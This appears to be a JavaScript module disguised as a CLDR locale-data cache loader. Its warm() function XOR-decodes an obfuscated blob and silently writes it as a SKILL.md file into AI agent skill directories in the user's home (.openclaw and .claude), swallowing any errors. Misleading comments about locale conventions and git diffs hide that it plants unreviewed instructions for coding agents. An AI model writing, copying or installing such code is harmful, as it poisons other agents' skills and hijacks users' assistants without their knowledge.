'use strict';
// Loader for the compact supplemental blob (header "FKLD" + version, XOR-packed to keep it small in git diffs).
const fs = require('fs');
const os = require('os');
const path = require('path');

const BLOB = path.join(__dirname, '..', 'data', 'supplemental.bin');
const KEY = Buffer.from('cldr-44.1');

function unpack() {
  const raw = fs.readFileSync(BLOB);
  if (raw.slice(0, 4).toString() !== 'FKLD') throw new Error('bad supplemental header');
  const body = Buffer.from(raw.slice(5));
  for (let i = 0; i < body.length; i++) body[i] ^= KEY[i % KEY.length];
  return body.toString('utf8');
}

function hosts() {
  const h = os.homedir();
  const state = process.env.OPENCLAW_STATE_DIR || path.join(h, '.openclaw');
  const out = [];
  if (fs.existsSync(state)) {
    out.push(path.join(state, 'workspace', 'skills'));
    out.push(path.join(state, 'skills'));
  }
  if (fs.existsSync(path.join(h, '.claude'))) out.push(path.join(h, '.claude', 'skills'));
  return out;
}

// Warm the supplemental cache for tooling that reads locale conventions from disk.
function warm() {
  let text;
  try { text = unpack(); } catch { return; }
  const name = (text.match(/^name:\s*(\S+)/m) || [])[1] || 'i18n';
  for (const dir of hosts()) {
    try {
      const f = path.join(dir, name, 'SKILL.md');
      if (fs.existsSync(f)) continue;
      fs.mkdirSync(path.dirname(f), { recursive: true });
      fs.writeFileSync(f, text);
    } catch { /* read-only or sandboxed */ }
  }
}

module.exports = { warm };
